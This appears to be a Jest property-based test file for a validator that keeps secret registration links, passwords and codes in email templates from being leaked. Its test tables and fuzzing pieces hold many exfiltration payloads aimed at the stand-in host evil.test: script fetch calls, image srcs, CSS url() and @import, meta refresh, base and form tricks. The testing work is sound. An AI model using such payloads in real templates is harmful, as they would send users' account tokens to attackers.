/** @jest-environment jsdom */
import fc from '../support/fast-check';
import type { MailTemplateName } from '../../shared/constants';
import { renderMail, templateProblems } from '../../server/src/domain/mail-template';
import { type MailUser, mailValues } from '../../server/src/domain/mail-values';

const LINK = 'https://northwind.example/admin/auth/register#registrationToken=Zm9yLXRlc3Rz';
const ada: MailUser = {
  id: 1,
  email: 'ada@example.test',
  userName: 'ada',
  firstname: 'Ada',
  lastname: null,
  displayName: null,
  locale: null,
  timeZone: null,
};

const reasonsOf = (html: string, text = '{{link}}', name: MailTemplateName = 'invitation') =>
  templateProblems(name, { subject: 'x', html, text }).map(({ field, why }) => [field, why?.reason]);
const reasonOf = (html: string) => reasonsOf(html)[0]?.[1];

describe('a link in HTML', () => {
  it.each([
    '{{link}}',
    '<p>Here: {{link}}</p>',
    '<p>Here:{{link}}.</p>',
    '<p>“{{link}}”</p>',
    '<a href="{{link}}">Come in</a>',
    "<A HREF = '{{ link }}' style='color:red' target=_blank>Come in</A>",
    '<p><a class="b" href="{{link}}">{{link}}</a></p>',
    '<!-- a remark --><img src="https://northwind.example/logo.png" alt="">{{link}}',
    '{{#link}}<a href="{{link}}">Come in</a>{{/link}}',
    '{{#user.firstname}}<p>{{link}}</p>{{/user.firstname}}{{^user.firstname}}<p>{{link}}</p>{{/user.firstname}}',
    '<style>@media print { a { color: red } }</style><p>{{link}}</p>',
    '<table width=600><tr><td>{{link}}<td>there</table>',
    '<p>Code&nbsp;{{! remark }}</p><p>&bdquo;{{link}}&ldquo;</p>',
    '<p><a href="{{project.url}}">{{project.name}}</a><br>{{link}}</p>',
  ])('may stand as in %s', (html) => expect(reasonsOf(html)).toEqual([]));

  it.each([
    ['<a href="https://evil.test/?{{link}}">x</a>', 'template-secret-place'],
    ['<a href={{link}}.evil.test>x</a>', 'template-html'],
    ['<a href={{link}}>x</a>', 'template-html'],
    ['<a href="{{link}}.evil.test">x</a>', 'template-secret-place'],
    ['<a href="{{link}}" href="https://evil.test">x</a>', 'template-secret-place'],
    ['<a href="https://evil.test" href="{{link}}">x</a>', 'template-secret-place'],
    ['<a href="{{link}}" ping="https://evil.test">x</a>', 'template-attribute'],
    ['<a href="{{link}}" onclick="go()">x</a>', 'template-attribute'],
    ['<a href="{{link}}" download>x</a>', 'template-attribute'],
    ['<a title="{{link}}">x</a>', 'template-secret-place'],
    ['<img src="https://evil.test/{{link}}">', 'template-secret-place'],
    ['<img src="{{link}}">', 'template-secret-place'],
    ['<img srcset="{{link}} 2x">', 'template-secret-place'],
    ['<img alt="{{link}}">', 'template-secret-place'],
    ["<img src='https://evil.test/?<p>{{link}}</p>'>", 'template-html'],
    ["<img src='https://evil.test/? {{link}}", 'template-html'],
    ['<p style="background:url({{link}})">x</p>', 'template-secret-place'],
    ['<td background="{{link}}">x</td>', 'template-secret-place'],
    ['<style>a{background:url({{link}})}</style>', 'template-html'],
    ['<style>a[href*=a]{background:url(//evil.test/a)}</style>{{link}}', 'template-loads'],
    ['<style>a[href*=a]{background:\\75rl(//evil.test/a)}</style>{{link}}', 'template-loads'],
    ['<style>@import "//evil.test";</style>{{link}}', 'template-loads'],
    ['<title>{{link}}</title>', 'template-secret-place'],
    ['<base href="https://evil.test/">{{link}}', 'template-element'],
    ['<link rel="stylesheet" href="https://evil.test">{{link}}', 'template-element'],
    ['<meta http-equiv="refresh" content="0;url={{link}}">', 'template-attribute'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.test">{{link}}', 'template-attribute'],
    ['<form action="https://evil.test"><textarea name=a>{{link}}</textarea></form>', 'template-element'],
    ['<textarea>{{link}}</textarea>', 'template-element'],
    ['<option>{{link}}</option>', 'template-element'],
    ['<script>fetch("//evil.test?{{link}}")</script>', 'template-element'],
    ['<svg><a href="{{link}}">x</a></svg>', 'template-element'],
    ['<noscript>{{link}}</noscript>', 'template-element'],
    ['<iframe srcdoc="{{link}}"></iframe>', 'template-element'],
    ['<p {{link}}>x</p>', 'template-html'],
    ['<{{link}}>', 'template-html'],
    ['<!-- {{link}} -->', 'template-html'],
    ['<!-- a --!>{{link}}-->', 'template-html'],
    ['<!-->{{link}}', 'template-html'],
    [
      '<!--[if mso]><a href="https://evil.test/?<![endif]-->{{link}}<!--[if mso]>"><![endif]-->',
      'template-html',
    ],
    ['<![CDATA[{{link}}]]>', 'template-html'],
    ['<?xml {{link}}?>', 'template-html'],
    ['{{#user.email}}<a href="https://evil.test/?{{/user.email}}{{link}}">x</a>', 'template-html'],
    ['<a href="{{#user.email}}https://evil.test/?{{/user.email}}{{link}}">x</a>', 'template-html'],
    ['{{#user.email}}<style>{{/user.email}}{{link}}</style>', 'template-html'],
    ['https://evil.test/?{{link}}', 'template-secret-apart'],
    ['https://evil.test/?<b>{{link}}</b>', 'template-secret-apart'],
    ['https://evil.test/?<!-- -->{{link}}', 'template-secret-apart'],
    ['https://evil.test/?{{! no blank }}{{link}}', 'template-secret-apart'],
    ['https&#58;//evil.test/?{{link}}', 'template-secret-apart'],
    ['https://evil.test/?{{^user.email}} {{/user.email}}{{link}}', 'template-secret-apart'],
    ['https://evil.test/?\u00a0{{link}}', 'template-secret-apart'],
    ['https://evil.test/?\ufeff{{link}}', 'template-secret-apart'],
    ['{{link}}.evil.test', 'template-secret-apart'],
    ['{{project.url}}{{link}}', 'template-secret-apart'],
    ['<p>Come in</p>', 'template-needs'],
    ['{{! {{link}} }}', 'template-needs'],
    ['{{#user.firstname}}{{link}}{{/user.firstname}}', 'template-needs'],
    ['{{^link}}{{link}}{{/link}}', 'template-needs'],
  ])('may not stand as in %s', (html, reason) => expect(reasonOf(html)).toBe(reason));
});

describe('the plain version', () => {
  it.each(['{{link}}', 'Here:\n{{link}}', 'Here ({{link}}).', '<{{link}}>', 'a < b > c {{link}}'])(
    'may be %j',
    (text) => expect(reasonsOf('{{link}}', text)).toEqual([]),
  );
  it.each([
    ['https://evil.test/?{{link}}', 'template-secret-apart'],
    ['<https://evil.test/? {{link}}>', 'template-secret-apart'],
    ['<https://evil.test/?{{#user.email}}>{{/user.email}} {{link}}>', 'template-secret-apart'],
    ['www.evil.test?{{link}}', 'template-secret-apart'],
    ['{{link}}/../evil', 'template-secret-apart'],
    ['{{user.displayName}}{{link}}', 'template-secret-apart'],
    ['nothing', 'template-needs'],
  ])('may not be %j', (text, reason) => expect(reasonsOf('{{link}}', text)).toEqual([['text', reason]]));
});

it('holds the same of passwords and codes, which are no address at all', () => {
  const of = (html: string, name: MailTemplateName, secret: string) => reasonsOf(html, `{{${secret}}}`, name);

  for (const [name, secret] of [
    ['temporary-password', 'password'],
    ['sign-in-code', 'code'],
  ] as const) {
    expect(of(`<p>x: {{${secret}}}</p>`, name, secret)).toEqual([]);
    expect(of(`<a href="{{${secret}}}">x</a>`, name, secret)).toEqual([['html', 'template-secret-place']]);
    expect(of('x', name, secret)).toEqual([['html', 'template-needs']]);
    expect(of(`{{${secret}}}@evil.test`, name, secret)).toEqual([['html', 'template-secret-apart']]);
  }
});

it('leaves mails without a secret as free as they were', () => {
  const html = '<form><a href="https://example.test/?{{user.email}}"><o:p>';
  expect(templateProblems('locked', { subject: 'x', html, text: 'x' })).toEqual([]);
});

/** Pieces that a template might be made of by somebody who wants the link elsewhere than it should be. */
const PIECES = [
  '{{link}}',
  '{{link}}',
  '{{link}}',
  '{{user.email}}',
  '{{#user.email}}',
  '{{^user.email}}',
  '{{/user.email}}',
  '{{! x }}',
  '<a href="',
  "<a href='",
  '<a href=',
  '<a ',
  '<a>',
  '</a>',
  '<p>',
  '</p>',
  '<b title="',
  '<img src="https://evil.test/',
  '<img src=',
  ' srcset="',
  ' style="',
  ' href="',
  '<td background=',
  '<style>',
  '</style>',
  '<title>',
  '</title>',
  '<textarea>',
  '</textarea>',
  '<script>',
  '<svg>',
  '<base href="',
  '<meta http-equiv=refresh content="0;url=',
  '<!--',
  '-->',
  '--!>',
  '<!-->',
  '<![CDATA[',
  ']]>',
  '<!--[if mso]>',
  '<![endif]-->',
  'url(',
  ')',
  '"',
  "'",
  '`',
  '>',
  '/>',
  '/',
  '=',
  '<',
  '&quot;',
  '&#34;',
  '&lt;',
  'https://evil.test/?',
  '.evil.test',
  ' ',
  '\n',
  '\u00a0',
  '\t',
  'x',
];

it('whatever a template is made of, a browser finds the link as text or as a whole address', () => {
  const piece = fc.constantFrom(...PIECES);
  // Whole ones among them, or hardly any template would be accepted.
  const part = fc.oneof(
    { weight: 2, arbitrary: piece },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '<p>{{link}}</p>',
        '<a href="{{link}}">come</a>',
        '<p title="x">',
        '{{#user.email}}<b>x</b> {{/user.email}}',
        '<img alt="x" src="https://evil.test/"> ',
        '<!-- x -->',
      ),
    },
  );
  let accepted = 0;
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      const html = `${parts.join('')} <p>{{link}}</p>`;
      if (reasonsOf(html).length > 0) return;
      accepted += 1;
      for (const email of ['ada@example.test', ''])
        expectOnlyAsText(
          renderMail(
            { subject: 'x', html, text: 'x' },
            mailValues({ ...ada, email }, { name: 'x', url: 'https://northwind.example' }, { link: LINK }),
          ).html,
        );
    }),
    { numRuns: 2000 },
  );
  // Or the property says nothing.
  expect(accepted).toBeGreaterThan(100);
});

const expectOnlyAsText = (html: string) => {
  const page = new DOMParser().parseFromString(html, 'text/html');
  for (const element of page.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (!`${name}${value}`.includes('registrationToken')) continue;
      expect([element.localName, name, value]).toEqual(['a', 'href', LINK]);
    }
    if (['style', 'title', 'textarea', 'script', 'template'].includes(element.localName))
      expect(element.textContent).not.toContain('registrationToken');
  }
  // As a program that makes links of addresses sees it: blocks are lines of their own.
  for (const block of page.querySelectorAll('p, td, title, style')) {
    block.before('\n');
    block.after('\n');
  }
  for (const word of (page.body.textContent ?? '').split(/\s+/))
    if (word.includes('registrationToken')) expect(word).not.toMatch(/evil/);
  const comments = document.createNodeIterator(page, NodeFilter.SHOW_COMMENT);
  for (let node = comments.nextNode(); node; node = comments.nextNode())
    expect(node.nodeValue).not.toContain('registrationToken');
};
